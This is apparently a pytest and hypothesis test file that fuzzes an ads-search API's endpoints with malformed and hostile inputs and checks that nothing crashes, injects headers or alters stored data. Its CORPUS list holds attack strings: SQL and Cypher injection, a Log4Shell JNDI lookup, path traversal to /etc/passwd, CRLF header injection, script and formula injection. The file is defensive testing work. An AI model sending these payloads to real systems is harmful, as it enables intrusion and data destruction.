"""Any text is safe to ask for: never a 5xx, never more than was asked for."""

from __future__ import annotations

from urllib.parse import quote, quote_from_bytes

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.api.asking import Asking, check_problem

CORPUS = [
    "'",
    '"',
    "' OR '1'='1",
    "'; DROP TABLE ads; --",
    "1 UNION SELECT secret FROM keys",
    '"unclosed phrase',
    "NEAR(garden lawn, 5)",
    "garden NOT lawn",
    "garden AND",
    "title:garden",
    "{title body}: x",
    "^garden",
    "gard*",
    "*",
    "garden - lawn",
    "(((((",
    ")" * 500,
    "MATCH (n) DETACH DELETE n",
    "'}) RETURN n //",
    "LOAD CSV FROM 'file:///etc/passwd'",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "..%2f..%2f",
    "\0",
    "garden\0lawn",
    "\x02\x03",
    "\r\nX-Injected: yes",
    "\u202egarden",
    "\ufeff",
    "\ufffe",
    "\U0010ffff",
    "e\u0301" * 1_000,
    "\ufdfa" * 500,
    "٠١٢٣٤٥٦٧٨٩",
    "@",
    "+",
    "%",
    "%25%32%35",
    "N-" + "f" * 32,
    "N-",
    "f" * 32,
    "0" * 31,
    ":" * 200,
    "a:" * 2_000,
    "1" * 10_000,
    "x" * 10_000,
    "garden " * 1_400,
    "a@" * 3_000,
    "https://" + "a." * 3_000,
    "<script>alert(1)</script>",
    "=cmd()",
]
BYTES = [b"\xed\xa0\x80", b"\xff", b"\xc0\xaf", b"garden\xed\xbf\xbf", b"\x80" * 50, b"%", b"%zz", b"%u0041"]
PATHS = [
    "/v1/search?q={}",
    "/v1/ads/{}",
    "/v1/identifiers/phone/{}",
    "/v1/identifiers/url/{}",
    "/v1/identifiers/{}/x",
    "/v1/networks/{}",
    "/v1/networks/{}/graph",
    "/v1/networks?cursor={}",
    "/v1/why?a={0}&b={0}",
    "/v1/events?network_id={}",
    "/v1/search?q=garden&region={}",
    "/v1/{}",
]


def harmless(asking: Asking, path: str) -> None:
    """Ask, and look at whatever comes back."""
    response = asking.ask(path)
    assert response.status_code < 500, (path[:200], response.text)
    assert "X-Injected" not in response.headers
    if response.status_code >= 400:
        check_problem(response, response.status_code, response.json()["code"])


@pytest.mark.parametrize("path", PATHS)
def test_no_text_does_harm(asking: Asking, path: str) -> None:
    before = asking.app.store.counts()
    for text in CORPUS:
        harmless(asking, path.format(quote(text, safe="")))
    for raw in BYTES:
        harmless(asking, path.format(quote_from_bytes(raw, safe="")))
    assert asking.app.store.counts() == before


@pytest.mark.parametrize("text", ["' OR '1'='1", "*", "garden OR massage", "title:garden"])
def test_no_text_is_a_query_language(asking: Asking, text: str) -> None:
    found = asking.ask("/v1/search", params={"q": text}).json()
    assert found["texts"] == []


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=60), path=st.sampled_from(PATHS))
def test_no_text_at_all_does_harm(asking: Asking, text: str, path: str) -> None:
    harmless(asking, path.format(quote(text, safe="", errors="surrogatepass")))


@settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(line=st.binary(max_size=200))
def test_no_line_at_all_does_harm(asking: Asking, line: bytes) -> None:
    done = asking.post(line + b"\n")
    assert done["ads_new"] == 0
    assert done["rejects"] == sum(1 for part in (line + b"\n").split(b"\n") if part.strip())
